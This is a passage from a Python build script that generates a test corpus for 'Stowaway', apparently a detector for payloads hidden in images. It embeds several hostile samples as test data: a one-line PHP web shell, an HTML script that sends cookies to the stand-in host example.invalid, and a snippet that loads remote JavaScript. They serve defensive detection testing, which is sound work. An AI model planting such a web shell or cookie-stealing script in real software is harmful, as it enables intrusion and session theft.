#!/usr/bin/env python3
"""Build the Stowaway test corpus:  python3 tests/corpus/build.py OUTDIR

Writes clean images, real payloads made by real tools (ffmpeg, zip, 7z, gcc, ...), images
carrying those payloads, and OUTDIR/manifest.json: a JSON array with one object per file:
  file       path relative to OUTDIR
  pic_type   jpg|png|gif|webp|bmp|tiff|heic|avif|ico|unknown (what the file really starts as)
  suspicious true|false
  begin      (suspicious only) byte offset of the first byte of the primary (= lowest offset) payload
  type       (suspicious only) MPEG-TS, MP4, ZIP, PHP, JPEG, ..., Unknown
  location   (suspicious only) after | inside | whole
  declared   (suspicious only) true for declared motion photos
  payloads   (files with several payloads only) [{begin, type}, ...] sorted by begin
  note       free text
Directories: clean/ (base images), suspicious/, tricky/ (clean but unusual), realworld/ (files
from registry packages, collected by realworld.py).
Deterministic: fixed seeds and timestamps, bit-exact single-threaded ffmpeg.
Run install-deps.sh first; nothing is fetched here.
"""
import base64
import hashlib
import io
import json
import os
import random
import shutil
import struct
import subprocess
import sys
import tempfile
import time
import zlib
from pathlib import Path

from PIL import Image, ImageDraw, PngImagePlugin
import pillow_heif

sys.dont_write_bytecode = True  # no __pycache__ beside the sources
sys.modules.setdefault("build", sys.modules[__name__])  # hidden*.py import this running module
from realworld import build_realworld, gif_header_end, missing, sniff  # noqa: E402

pillow_heif.register_heif_opener()
HERE = Path(__file__).resolve().parent
CACHE = HERE / ".cache"
EPOCH = 1577836800  # 2020-01-01T00:00:00Z, every timestamp we control
ENV = dict(os.environ, TZ="UTC", LC_ALL="C", SOURCE_DATE_EPOCH=str(EPOCH))
OUT: Path = Path()
TMP: Path = Path()
ENTRIES: list = []
PAYLOAD_TYPES = ["MPEG-TS", "MP4", "FLV", "MKV", "WebM", "AVI", "MP3", "AAC", "OGG", "FLAC",
                 "WAV", "ZIP", "RAR", "7Z", "GZIP", "BZIP2", "XZ", "ZSTD", "TAR", "PDF", "ELF",
                 "PE", "Mach-O", "PHP", "HTML", "JavaScript", "JPEG", "PNG", "GIF", "WebP",
                 "BMP", "TIFF", "HEIC", "AVIF", "ICO", "Unknown",
                 # payload types added with hidden.py (issue 16)
                 "CAB", "ARJ", "JavaClass", "WASM", "SVG", "PostScript", "RTF", "LZ4", "ISO", "LNK",
                 "CPIO", "AR", "DICOM", "PCAP", "SWF", "OLE", "SQLite", "DEX"]
# file -> bytes between begin and the payload's own magic: a short separator (< 64 bytes) or the
# partial first packet of a TS cut mid-stream (< 204 bytes); verify() checks the magic after it.
LEAD: dict = {}
IMG_PAYLOAD = {"jpg": "JPEG", "png": "PNG", "gif": "GIF", "webp": "WebP", "bmp": "BMP",
               "tiff": "TIFF", "heic": "HEIC", "avif": "AVIF", "ico": "ICO"}


# ----------------------------------------------------------------------------- helpers
def add(rel, data, pic, ptype=None, begin=None, loc=None, declared=False, note="", more=None):
    """Write OUT/rel and record it. ptype=None means clean. more: all (begin, type) pairs."""
    path = OUT / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    e = {"file": rel, "pic_type": pic, "suspicious": ptype is not None}
    if ptype is not None:
        e.update(begin=begin, type=ptype, location=loc, declared=declared)
        if more:
            e["payloads"] = [{"begin": b, "type": t} for b, t in sorted(more)]
    e["note"] = note
    ENTRIES.append(e)


def run(cmd, **kw):
    return subprocess.run(cmd, check=True, env=ENV, capture_output=True, **kw).stdout


def tmpfile(name, data=None):
    p = TMP / name
    if data is not None:
        p.write_bytes(data)
    return p


def save(img, fmt, **kw):
    buf = io.BytesIO()
    img.save(buf, fmt, **kw)
    return buf.getvalue()


def photo(w, h, seed):
    """Deterministic photo-like RGB image: smooth noise + gradients + a few blobs."""
    rnd = random.Random(seed)
    sw, sh = w // 8 + 2, h // 8 + 2
    noise = Image.frombytes("RGB", (sw, sh), rnd.randbytes(3 * sw * sh))
    noise = noise.resize((w, h), Image.Resampling.BICUBIC)
    g = Image.linear_gradient("L").resize((w, h))
    r = Image.radial_gradient("L").resize((w, h))
    b = Image.linear_gradient("L").transpose(Image.Transpose.ROTATE_90).resize((w, h))
    img = Image.blend(noise, Image.merge("RGB", (g, r, b)), 0.6)
    d = ImageDraw.Draw(img)
    for _ in range(6):
        x, y = rnd.randrange(w), rnd.randrange(h)
        d.ellipse([x, y, x + rnd.randrange(2, w // 3 + 3), y + rnd.randrange(2, h // 3 + 3)],
                  fill=tuple(rnd.randbytes(3)))
    return img


def png_chunk(ctype, data):
    return struct.pack(">I", len(data)) + ctype + data + struct.pack(">I", zlib.crc32(ctype + data))


def png_insert(png, chunks, after_ihdr=False):
    """Insert chunks after IHDR or before IEND; return (new png, offset of first chunk)."""
    assert png[-12:-8] == b"\0\0\0\0" and png[-8:-4] == b"IEND"
    pos = 33 if after_ihdr else len(png) - 12
    return png[:pos] + b"".join(chunks) + png[pos:], pos


def gif_subblocks(data):
    return b"".join(bytes([len(data[i:i + 255])]) + data[i:i + 255]
                    for i in range(0, len(data), 255)) + b"\0"


def riff_add_chunk(webp, fourcc, data):
    """Append a chunk to an extended (VP8X) WebP; return (new webp, offset of chunk data)."""
    assert webp[12:16] == b"VP8X", "only VP8X WebPs may carry extra chunks"
    body = webp[12:] + fourcc + struct.pack("<I", len(data)) + data + b"\0" * (len(data) & 1)
    return b"RIFF" + struct.pack("<I", 4 + len(body)) + b"WEBP" + body, len(webp) + 8


def box(btype, data):
    return struct.pack(">I", 8 + len(data)) + btype + data


def jpeg_segment(marker, data):
    return bytes([0xFF, marker]) + struct.pack(">H", len(data) + 2) + data


def find_once(hay, needle):
    i = hay.find(needle)
    assert i >= 0 and hay.find(needle, i + 1) < 0, "payload not found exactly once"
    return i


def jpeg_segments(jpg):
    """[(offset, marker, length incl. the 2 marker bytes)] from the first after SOI to the first SOS."""
    i, out = 2, []
    while True:
        assert jpg[i] == 0xFF, "unexpected bytes between JPEG segments"
        m, n = jpg[i + 1], struct.unpack(">H", jpg[i + 2:i + 4])[0]
        out.append((i, m, n + 2))
        if m == 0xDA:
            return out
        i += n + 2


# ----------------------------------------------------------------------------- payloads
def ffmpeg(name, inputs, args, fmt):
    out = TMP / name
    run(["ffmpeg", "-nostdin", "-hide_banner", "-loglevel", "error", "-y", *inputs,
         "-map_metadata", "-1", "-fflags", "+bitexact", "-flags:v", "+bitexact",
         "-flags:a", "+bitexact", "-threads", "1", *args, "-f", fmt, str(out)])
    return out.read_bytes()


def rar4(name, data):
    """RAR 1.5-4.x archive with one stored file, written from the RAR 4 technote (no free
    RAR creator exists in Debian main: `rar` is non-free, unrar-free only extracts)."""
    def block(htype, flags, body):
        head = struct.pack("<BHH", htype, flags, 7 + len(body)) + body
        return struct.pack("<H", zlib.crc32(head) & 0xFFFF) + head
    dos_time = ((2020 - 1980) << 25) | (1 << 21) | (1 << 16)  # 2020-01-01 00:00:00
    fhead = struct.pack("<IIBIIBBHI", len(data), len(data), 3, zlib.crc32(data), dos_time,
                        20, 0x30, len(name), 0o100644) + name
    return (b"Rar!\x1a\x07\x00" + block(0x73, 0, b"\0" * 6) + block(0x74, 0x8000, fhead)
            + data + block(0x7B, 0x4000, b""))


def rar5(name, data):
    """RAR 5.0 archive with one stored file, written from the RAR 5.0 technote."""
    def vint(n):
        out = bytearray()
        while True:
            out.append((n & 0x7F) | (0x80 if n > 0x7F else 0))
            n >>= 7
            if not n:
                return bytes(out)

    def block(fields):
        body = vint(len(fields)) + fields
        return struct.pack("<I", zlib.crc32(body)) + body
    main = block(vint(1) + vint(4) + vint(0))  # flags 4: skip if unknown, as rar writes
    # type 2, header flags 2 (data area), data size, file flags 6 (mtime+crc), size, attrs,
    # mtime, crc, compression 0 (stored), host OS 1 (unix), name
    fhead = (vint(2) + vint(2) + vint(len(data)) + vint(6) + vint(len(data)) + vint(0o100644)
             + struct.pack("<II", EPOCH, zlib.crc32(data)) + vint(0) + vint(1)
             + vint(len(name)) + name)
    return b"Rar!\x1a\x07\x01\x00" + main + block(fhead) + data + block(vint(5) + vint(4) + vint(0))


def make_payloads():
    """name -> (bytes, manifest type, description)."""
    P = {}
    av = ["-f", "lavfi", "-i", "testsrc=size=160x120:rate=10:duration=1"]
    a = ["-f", "lavfi", "-i", "sine=frequency=440:duration=1:sample_rate=22050"]
    av += a
    h264 = ["-c:v", "libx264", "-preset", "ultrafast", "-pix_fmt", "yuv420p", "-c:a", "aac"]
    mp3 = ["-c:a", "libmp3lame"]
    for key, typ, fmt, inp, args, desc in (  # key, type, ffmpeg muxer, inputs, codec args, note
            ("ts", "MPEG-TS", "mpegts", av, h264, "ffmpeg mpegts h264+aac"),
            ("m2ts", "MPEG-TS", "mpegts", av, h264 + ["-mpegts_m2ts_mode", "1"], "ffmpeg M2TS 192-byte packets"),
            ("mp4", "MP4", "mp4", av, h264, "ffmpeg mp4 h264+aac"),
            ("mov", "MP4", "mov", av, h264, "ffmpeg QuickTime mov"),
            ("fmp4", "MP4", "mp4", av, h264 + ["-movflags", "frag_keyframe+empty_moov"], "ffmpeg fragmented mp4"),
            ("flv", "FLV", "flv", av, ["-c:v", "flv"] + mp3, "ffmpeg flv"),
            ("mkv", "MKV", "matroska", av, h264[:-1] + ["libvorbis"], "ffmpeg matroska h264+vorbis"),
            ("webm", "WebM", "webm", av, ["-c:v", "libvpx", "-b:v", "200k", "-c:a", "libopus"], "ffmpeg webm vp8+opus"),
            ("avi", "AVI", "avi", av, ["-c:v", "mpeg4"] + mp3, "ffmpeg avi mpeg4+mp3"),
            ("mp3", "MP3", "mp3", a, mp3 + ["-metadata", "title=stowaway"], "ffmpeg mp3 with ID3v2"),
            ("mp3raw", "MP3", "mp3", a, mp3 + ["-id3v2_version", "0", "-write_xing", "0"], "ffmpeg mp3, no ID3"),
            ("aac", "AAC", "adts", a, ["-c:a", "aac"], "ffmpeg AAC ADTS"),
            ("ogg", "OGG", "ogg", a, ["-c:a", "libvorbis"], "ffmpeg ogg vorbis"),
            ("flac", "FLAC", "flac", a, ["-c:a", "flac"], "ffmpeg flac"),
            ("wav", "WAV", "wav", a, ["-c:a", "pcm_s16le"], "ffmpeg wav")):
        P[key] = (ffmpeg(key + "." + fmt, inp, args, fmt), typ, desc)
    ts = P["ts"][0]
    P["ts204"] = (b"".join(ts[i:i + 188] + b"\0" * 16 for i in range(0, len(ts), 188)),
                  "MPEG-TS", "ffmpeg TS re-framed to 204-byte packets (16 zero parity bytes)")

    src = TMP / "arc"
    src.mkdir()
    rnd = random.Random(7)
    (src / "secret.txt").write_bytes(b"exfiltrated data, do not read\n" * 40)
    (src / "blob.bin").write_bytes(rnd.randbytes(1500))
    for f in src.iterdir():
        f.chmod(0o644)
        os.utime(f, (EPOCH, EPOCH))
    os.utime(src, (EPOCH, EPOCH))
    names = ["blob.bin", "secret.txt"]
    run(["zip", "-q", "-X", "-D", str(TMP / "a.zip"), *names], cwd=src)
    P["zip"] = ((TMP / "a.zip").read_bytes(), "ZIP", "Info-ZIP zip")
    run(["7z", "a", "-bd", "-mmt=1", "-mtc=off", "-mta=off", str(TMP / "a.7z"), *names], cwd=src)
    P["7z"] = ((TMP / "a.7z").read_bytes(), "7Z", "p7zip 7z")
    P["tar"] = (run(["tar", "--sort=name", f"--mtime=@{EPOCH}", "--owner=0", "--group=0",
                     "--numeric-owner", "--format=ustar", "-cf", "-", *names], cwd=src), "TAR", "GNU tar ustar")
    P["gz"] = (run(["gzip", "-n", "-9", "-c", str(src / "secret.txt")]), "GZIP", "gzip -n")
    P["bz2"] = (run(["bzip2", "-9", "-c", str(src / "secret.txt")]), "BZIP2", "bzip2")
    P["xz"] = (run(["xz", "-T1", "-c", str(src / "secret.txt")]), "XZ", "xz")
    P["zst"] = (run(["zstd", "-q", "-c", str(src / "secret.txt")]), "ZSTD", "zstd")
    secret = (src / "secret.txt").read_bytes()
    P["rar4"] = (rar4(b"secret.txt", secret), "RAR", "RAR4 written from the format spec")
    P["rar5"] = (rar5(b"secret.txt", secret), "RAR", "RAR5 written from the format spec")

    pdf_date = time.gmtime(EPOCH)
    P["pdf"] = (save(photo(64, 48, 11), "PDF", creationDate=pdf_date, modDate=pdf_date),
                "PDF", "Pillow PDF")
    c = tmpfile("hello.c", b'#include <stdio.h>\nint main(void){puts("hi");return 0;}\n')
    run(["gcc", "-O2", "-s", "-o", str(TMP / "hello"), str(c)])
    P["elf"] = ((TMP / "hello").read_bytes(), "ELF", "gcc-built x86-64 ELF")
    P["pe"] = ((CACHE / "pe/t64.exe").read_bytes(), "PE", "pip's vendored distlib t64.exe launcher")
    P["macho"] = ((CACHE / "macho/_speedups.so").read_bytes(), "Mach-O",
                  "MarkupSafe macOS arm64 _speedups.so")
    P["php"] = (b"<?php system($_GET['c']); ?>\n", "PHP", "PHP web shell")
    P["html"] = (b"<html><head><title>x</title></head><body><script>document.location="
                 b"'http://example.invalid/?c='+document.cookie;</script></body></html>\n",
                 "HTML", "HTML page with script")
    P["js"] = (b"(function(){var s=document.createElement('script');s.src='//example.invalid/"
               b"x.js';document.body.appendChild(s);})();\n", "JavaScript", "JavaScript IIFE")
    return P


# ----------------------------------------------------------------------------- clean images
XMP_TMPL = ('<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?>\n<x:xmpmeta xmlns:x="adobe:ns:meta/">'
            '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
            'rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/"{attrs}>{body}</rdf:Description>'
            '</rdf:RDF></x:xmpmeta>\n{pad}<?xpacket end="w"?>')


def xmp(body="", attrs="", pad=2000):
    return XMP_TMPL.format(attrs=attrs, body=body, pad=(" " * 99 + "\n") * (pad // 100)).encode()


def exif_bytes():
    ex = Image.Exif()
    ex[0x010F], ex[0x0110], ex[0x0131] = "Stowaway", "Corpus Cam", "build.py"
    return ex.tobytes()


def bmp_v5(img):
    """32-bit BI_BITFIELDS BMP with a BITMAPV5HEADER (Pillow only writes 40-byte headers)."""
    w, h = img.size
    pixels = img.convert("RGBA").transpose(Image.Transpose.FLIP_TOP_BOTTOM).tobytes("raw", "BGRA")
    hdr = struct.pack("<IiiHHIIiiII", 124, w, h, 1, 32, 3, len(pixels), 2835, 2835, 0, 0)
    hdr += struct.pack("<IIII", 0xFF0000, 0xFF00, 0xFF, 0xFF000000) + b"BGRs" + b"\0" * 48
    hdr += struct.pack("<IIII", 4, 0, 0, 0)
    return b"BM" + struct.pack("<IHHI", 14 + len(hdr) + len(pixels), 0, 0, 14 + len(hdr)) + hdr + pixels


def ico_mixed(img):
    """ICO whose small entries are BMP (DIB) and the 256x256 entry is PNG, like Windows icons."""
    def entries(ico):
        n = struct.unpack("<H", ico[4:6])[0]
        for i in range(n):
            e = ico[6 + 16 * i: 22 + 16 * i]
            size, off = struct.unpack("<II", e[8:16])
            yield e[:8], ico[off:off + size]
    bmp = list(entries(save(img, "ICO", sizes=[(16, 16), (32, 32), (48, 48)], bitmap_format="bmp")))
    png = list(entries(save(img, "ICO", sizes=[(256, 256)])))
    parts, out = bmp + png, b""
    off = 6 + 16 * len(parts)
    head = struct.pack("<HHH", 0, 1, len(parts))
    for meta, data in parts:
        head += meta + struct.pack("<II", len(data), off)
        off += len(data)
        out += data
    return head + out


def cur_from_ico(ico, hotspots):
    """CUR cursor from an ICO: type 2, and each entry's planes/bit count become its hotspot x/y."""
    d = bytearray(ico)
    struct.pack_into("<H", d, 2, 2)
    for i, (x, y) in enumerate(hotspots):
        struct.pack_into("<HH", d, 6 + 16 * i + 4, x, y)
    return bytes(d)


def bmp_embedded(img, compression, data):
    """BMP whose pixel array is a whole PNG (BI_PNG, 5) or JPEG (BI_JPEG, 4), as printers' DIBs."""
    w, h = img.size
    hdr = struct.pack("<IiiHHIIiiII", 40, w, h, 1, 0, compression, len(data), 2835, 2835, 0, 0)
    return b"BM" + struct.pack("<IHHI", 54 + len(data), 0, 0, 54) + hdr + data


def mpf_app2(sizes, tiff_at):
    """APP2 'MPF' payload (CIPA DC-007 MP Index IFD, little-endian) for images of these sizes stored
    back to back from offset 0; tiff_at = file offset of the MPF TIFF header (offsets count from it)."""
    entries, off = b"", 0
    for i, size in enumerate(sizes):
        attr = 0x030000 if i == 0 else 0  # baseline MP primary image / undefined (a gain map)
        entries += struct.pack("<IIIHH", attr, size, off - tiff_at if i else 0, 0, 0)
        off += size
    ifd = (struct.pack("<H", 3) + struct.pack("<HHI4s", 0xB000, 7, 4, b"0100")
           + struct.pack("<HHII", 0xB001, 4, 1, len(sizes))
           + struct.pack("<HHII", 0xB002, 7, len(entries), 8 + 2 + 36 + 4) + struct.pack("<I", 0))
    return b"MPF\0" + b"II*\0" + struct.pack("<I", 8) + ifd + entries


def iptc(*datasets):
    """IPTC-IIM application record 2 (record version first), as vendor trailers carry it."""
    return b"".join(b"\x1c\x02" + bytes([ds]) + struct.pack(">H", len(v)) + v
                    for ds, v in [(0, b"\0\4"), *datasets])


IPTC = iptc((5, b"Stowaway corpus"), (80, b"build.py"), (120, b"vendor trailer test"))


def afcp(start, records, big=True):
    """AXS File Concatenation Protocol trailer as ExifTool's AFCP.pm reads and writes it: header
    'AXS!' (big-endian) or 'AXS*', version, entry count, checksum; 12-byte entries (tag, size,
    absolute offset); the data; then the end record 'AXS!' + start offset + checksum (last 12 bytes)."""
    e, hdr = (">", b"AXS!") if big else ("<", b"AXS*")
    data_at = start + 12 + 12 * len(records)
    entries, vals = b"", b""
    for tag, val in records:
        entries += tag + struct.pack(e + "II", len(val), data_at + len(vals))
        vals += val
    return (hdr + struct.pack(e + "HHI", 0x0100, len(records), 0) + entries + vals
            + hdr + struct.pack(e + "II", start, 0))


def fotostation(records):
    """FotoWare FotoStation trailer (ExifTool FotoStation.pm): records, each its data then a 10-byte
    footer: tag (int16u), record size incl. footer (int32u), signature A1 B2 C3 D4; all big-endian."""
    return b"".join(v + struct.pack(">HII", tag, len(v) + 10, 0xA1B2C3D4) for tag, v in records)


def photomechanic(records):
    """Photo Mechanic trailer (ExifTool PhotoMechanic.pm): IPTC-format int32s soft-edit records in
    record 2, zero-padded to 2 KB like Photo Mechanic does, then size (int32u BE) + 'cbipcbbl'."""
    body = b"".join(b"\x1c\x02" + bytes([tag]) + struct.pack(">Hi", 4, v) for tag, v in records)
    body += b"\0" * (0x800 - len(body))
    return body + struct.pack(">I", len(body)) + b"cbipcbbl"


def samsung_sef(blocks):
    """Samsung SEF trailer (ExifTool Samsung.pm ProcessSamsung): data blocks (00 00 type, name length,
    name, data), then the SEFH directory (version 101, count, entries of type, distance back from
    SEFH, size), its length and 'SEFT'; all little-endian."""
    out, where = b"", []
    for btype, name, data in blocks:
        where.append((btype, len(out)))
        out += b"\0\0" + struct.pack("<HI", btype, len(name)) + name + data
    sizes = [b - a for (_, a), (_, b) in zip(where, where[1:] + [(0, len(out))])]
    sefh = b"SEFH" + struct.pack("<II", 101, len(blocks)) + b"".join(
        b"\0\0" + struct.pack("<HII", t, len(out) - a, s) for (t, a), s in zip(where, sizes))
    return out + sefh + struct.pack("<I", len(sefh)) + b"SEFT"


def tiff_zero_pad(tif):
    """Zero the word-alignment byte libtiff leaves uninitialised between a little-endian TIFF's
    single strip and its IFD (an odd-length LZW strip made the corpus differ from run to run)."""
    d = bytearray(tif)
    ifd = struct.unpack("<I", d[4:8])[0]
    tags = {t: v for t, _, _, v in (struct.unpack("<HHII", d[ifd + 2 + 12 * i:ifd + 14 + 12 * i])
                                    for i in range(struct.unpack("<H", d[ifd:ifd + 2])[0]))}
    end = tags[273] + tags[279]  # StripOffsets + StripByteCounts (one strip)
    assert d[:2] == b"II" and 0 <= ifd - end <= 1
    d[end:ifd] = bytes(ifd - end)
    return bytes(d)


def tool(cmd_in, args, data, out_name):
    """Run a file-to-file tool (tiffcp, optipng, cjpeg...) on data, return the output bytes."""
    src, dst = tmpfile("in_" + out_name, data), TMP / out_name
    run([*cmd_in, *args(str(src), str(dst))])
    return dst.read_bytes()


def build_clean():
    """Clean images of every container; returns the carriers used by the suspicious set."""
    icc_big = Path("/usr/share/color/icc/LCMSXYZI.ICM").read_bytes()  # 154 KB, icc-profiles-free
    icc = Path("/usr/share/color/icc/sRGB.icc").read_bytes()
    p, small, tiny = photo(320, 240, 1), photo(160, 120, 2), photo(64, 64, 3)
    big = photo(1024, 768, 4)
    frames = [photo(120, 90, 10 + i) for i in range(4)]
    C = {}

    def c(name, data, pic, note):
        add("clean/" + name, data, pic, note=note)
        return data
    # JPEG
    C["jpg"] = c("baseline.jpg", save(p, "JPEG", quality=85), "jpg", "baseline JFIF")
    C["jpg_prog"] = c("progressive.jpg", save(p, "JPEG", quality=85, progressive=True, optimize=True), "jpg",
                      "progressive")
    c("restart_pillow.jpg", save(p, "JPEG", quality=85, restart_marker_blocks=4), "jpg",
      "restart markers every 4 MCUs (Pillow)")
    c("restart_cjpeg.jpg", tool(["cjpeg"], lambda s, d: ["-restart", "1", "-outfile", d, s],
                                save(p, "PPM"), "r.jpg"), "jpg", "cjpeg -restart 1 (one MCU row)")
    c("photo_1024.jpg", save(big, "JPEG", quality=90, exif=exif_bytes()), "jpg", "1024x768 with EXIF")
    thumb = tmpfile("thumb.jpg", save(tiny, "JPEG", quality=70))
    c("exif_thumbnail.jpg", tool(["exiftool", "-q"], lambda s, d: ["-o", d, f"-ThumbnailImage<={thumb}", s],
                                 save(p, "JPEG", quality=85, exif=exif_bytes()), "t.jpg"),
      "jpg", "EXIF IFD1 JPEG thumbnail (exiftool)")
    c("icc_multi_app2.jpg", save(p, "JPEG", quality=85, icc_profile=icc_big), "jpg",
      "154 KB ICC profile across 3 APP2 segments")
    c("large_xmp.jpg", save(p, "JPEG", quality=85, xmp=xmp("<dc:description>" + "lorem ipsum " * 3000
                                                           + "</dc:description>", pad=4000)),
      "jpg", "~40 KB XMP in APP1")
    C["jpg1x1"] = c("1x1.jpg", save(Image.new("RGB", (1, 1), (200, 30, 30)), "JPEG"), "jpg", "1x1")
    # PNG
    C["png"] = c("plain.png", save(p, "PNG"), "png", "RGB")
    c("palette.png", save(p.quantize(64), "PNG"), "png", "8-bit palette")
    g16 = Image.linear_gradient("L").resize((200, 100)).convert("I").point(lambda v: v * 257)
    c("gray16.png", save(g16.convert("I;16"), "PNG"), "png", "16-bit grayscale")
    inter = tool(["optipng", "-quiet", "-o1", "-i1"], lambda s, d: ["-out", d, s], save(small, "PNG"), "i.png")
    assert inter[28] == 1
    c("interlaced.png", inter, "png", "Adam7 interlaced (optipng -i1)")
    info = PngImagePlugin.PngInfo()
    info.add_text("Title", "Stowaway corpus")
    info.add_text("Comment", "compressed comment " * 50, zip=True)
    info.add_itxt("Description", "Beschreibung \u00e4\u00f6\u00fc", lang="de", tkey="Beschreibung")
    c("text_chunks.png", save(small, "PNG", pnginfo=info), "png", "tEXt + zTXt + iTXt")
    info = PngImagePlugin.PngInfo()
    info.add_itxt("XML:com.adobe.xmp", xmp("<dc:description>" + "x" * 30000 + "</dc:description>").decode())
    c("itxt_xmp.png", save(small, "PNG", pnginfo=info), "png", "big iTXt XMP packet")
    c("apng.png", save(frames[0], "PNG", save_all=True, append_images=frames[1:], duration=100, loop=0),
      "png", "APNG, 4 frames")
    C["png1x1"] = c("1x1.png", save(Image.new("RGBA", (1, 1), (0, 0, 0, 0)), "PNG"), "png", "1x1 RGBA")
    c("photo_1024.png", save(big, "PNG"), "png", "1024x768")
    # GIF
    C["gif"] = c("gif87a.gif", save(small.quantize(64), "GIF"), "gif", "GIF87a")
    assert C["gif"][:6] == b"GIF87a"
    c("gif89a_comment.gif", save(small.quantize(64), "GIF", comment=b"made for the stowaway corpus"),
      "gif", "GIF89a with a text comment")
    q = [f.quantize(64) for f in frames]
    anim = save(q[0], "GIF", save_all=True, append_images=q[1:], duration=120, loop=0)
    c("animated.gif", anim, "gif", "animated, NETSCAPE2.0 loop")
    x = xmp("<dc:format>image/gif</dc:format>", pad=300)
    magic = bytes([1]) + bytes(range(255, -1, -1)) + b"\0"
    c("animated_xmp.gif", anim[:-1] + b"\x21\xff\x0bXMP DataXMP" + x + magic + b"\x3b",
      "gif", "animated + XMP application extension (raw + magic trailer)")
    # WebP
    C["webp"] = c("lossy.webp", save(p, "WEBP", quality=80), "webp", "lossy VP8")
    c("lossless.webp", save(small, "WEBP", lossless=True), "webp", "lossless VP8L")
    C["webpx"] = c("meta.webp", save(p, "WEBP", quality=80, exif=exif_bytes(), xmp=xmp(), icc_profile=icc),
                   "webp", "VP8X with ICCP, EXIF, XMP")
    c("animated.webp", save(frames[0], "WEBP", save_all=True, append_images=frames[1:], duration=100,
                            quality=70), "webp", "animated (ANIM/ANMF)")
    c("animated_meta.webp", save(frames[0], "WEBP", save_all=True, append_images=frames[1:], duration=100,
                                 quality=70, exif=exif_bytes(), xmp=xmp(), icc_profile=icc),
      "webp", "animated with ICCP, EXIF, XMP")
    c("photo_1024.webp", save(big, "WEBP", quality=85), "webp", "1024x768")
    # BMP
    C["bmp"] = c("rgb24.bmp", save(small, "BMP"), "bmp", "24-bit")
    c("pal8.bmp", save(small.quantize(256), "BMP"), "bmp", "8-bit palette")
    c("v5_32bit.bmp", bmp_v5(small), "bmp", "32-bit BITFIELDS, BITMAPV5HEADER")
    C["bmp1x1"] = c("1x1.bmp", save(Image.new("RGB", (1, 1), (255, 255, 255)), "BMP"), "bmp", "1x1 24-bit")
    # TIFF
    tif = save(small, "TIFF")
    C["tiff"] = c("ii_strips.tif", tif, "tiff", "little-endian, uncompressed strips")
    c("ii_lzw.tif", tiff_zero_pad(save(small, "TIFF", compression="tiff_lzw")), "tiff", "LZW")
    c("mm_strips.tif", tool(["tiffcp"], lambda s, d: ["-B", s, d], tif, "mm.tif"), "tiff", "big-endian (tiffcp -B)")
    c("tiled.tif", tool(["tiffcp"], lambda s, d: ["-t", "-w", "32", "-l", "32", s, d], tif, "t.tif"),
      "tiff", "32x32 tiles (tiffcp -t)")
    c("bigtiff.tif", tool(["tiffcp"], lambda s, d: ["-8", s, d], tif, "b.tif"), "tiff", "BigTIFF (tiffcp -8)")
    c("jpeg.tif", save(small, "TIFF", compression="jpeg"), "tiff", "JPEG-compressed (libtiff)")
    # ICO
    C["ico"] = c("png_entries.ico", save(tiny, "ICO", sizes=[(16, 16), (32, 32), (64, 64)]), "ico",
                 "3 sizes, PNG entries")
    c("bmp_entries.ico", save(tiny, "ICO", sizes=[(16, 16), (32, 32)], bitmap_format="bmp"), "ico", "BMP entries")
    c("mixed.ico", ico_mixed(photo(256, 256, 5)), "ico", "BMP 16/32/48 + PNG 256")
    # HEIF family
    C["heic"] = c("plain.heic", save(p, "HEIF", quality=60), "heic", "pillow-heif x265")
    C["avif"] = c("plain.avif", save(p, "AVIF", quality=60, speed=8), "avif", "Pillow libavif")
    return C


def build_clean_more(C):
    """Rarer structures that must stay clean; adds their carriers to C."""
    icc = Path("/usr/share/color/icc/sRGB.icc").read_bytes()
    p, small = photo(320, 240, 1), photo(160, 120, 2)

    def c(name, data, pic, note):
        add("clean/" + name, data, pic, note=note)
        return data
    C["bigtiff"] = c("bigtiff_pillow.tif", save(small, "TIFF", big_tiff=True), "tiff",
                     "BigTIFF written by Pillow (big_tiff=True)")
    assert C["bigtiff"][:4] == b"II+\0"
    ico = save(photo(48, 48, 30).convert("RGBA"), "ICO", sizes=[(32, 32), (48, 48)], bitmap_format="bmp")
    assert ico[4:6] == b"\2\0"
    C["cur"] = c("cursor.cur", cur_from_ico(ico, [(5, 3), (7, 4)]), "ico",
                 "CUR cursor (type 2): 32x32 and 48x48 32-bit BMP entries with hotspots")
    with Image.open(io.BytesIO(C["cur"])) as im:
        assert im.format == "CUR"
    C["bmp_png"] = c("bi_png.bmp", bmp_embedded(small, 5, save(small, "PNG")), "bmp",
                     "BI_PNG: the pixel array is a whole PNG (biCompression 5, biSizeImage = PNG length)")
    c("bi_jpeg.bmp", bmp_embedded(small, 4, save(small, "JPEG", quality=85)), "bmp",
      "BI_JPEG: the pixel array is a whole JPEG (biCompression 4, biSizeImage = JPEG length)")

    # Extended XMP as Google's depth photos write it: base64 depth map and image in the extension.
    depth = save(photo(640, 480, 22).convert("L"), "JPEG", quality=90)
    still = save(photo(800, 600, 23), "JPEG", quality=95)
    ns = (' xmlns:GImage="http://ns.google.com/photos/1.0/image/"'
          ' xmlns:GDepth="http://ns.google.com/photos/1.0/depthmap/"')
    ext = ('<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
           f'<rdf:Description rdf:about=""{ns} GImage:Data="{base64.b64encode(still).decode()}"'
           f' GDepth:Data="{base64.b64encode(depth).decode()}"/></rdf:RDF></x:xmpmeta>').encode()
    guid = hashlib.md5(ext).hexdigest().upper()
    std = xmp(attrs=ns + ' xmlns:xmpNote="http://ns.adobe.com/xmp/note/" GImage:Mime="image/jpeg"'
              ' GDepth:Format="RangeInverse" GDepth:Near="0.5" GDepth:Far="4" GDepth:Mime="image/jpeg"'
              f' xmpNote:HasExtendedXMP="{guid}"', pad=0)
    j = save(p, "JPEG", quality=85, exif=exif_bytes(), xmp=std)
    at = next(o + n for o, m, n in jpeg_segments(j) if j[o + 4:o + 33] == b"http://ns.adobe.com/xap/1.0/\0")
    head, step = b"http://ns.adobe.com/xmp/extension/\0" + guid.encode(), 65400
    segs = [jpeg_segment(0xE1, head + struct.pack(">II", len(ext), o) + ext[o:o + step])
            for o in range(0, len(ext), step)]
    c("xmp_extended.jpg", j[:at] + b"".join(segs) + j[at:], "jpg",
      f"extended XMP ({len(ext)} bytes: base64 image + depth map) in {len(segs)} APP1 xmp/extension "
      "segments (GUID, full length, offset, chunk)")

    # Vendor metadata trailers after EOI, laid out as ExifTool reads them.
    j = C["jpg"]
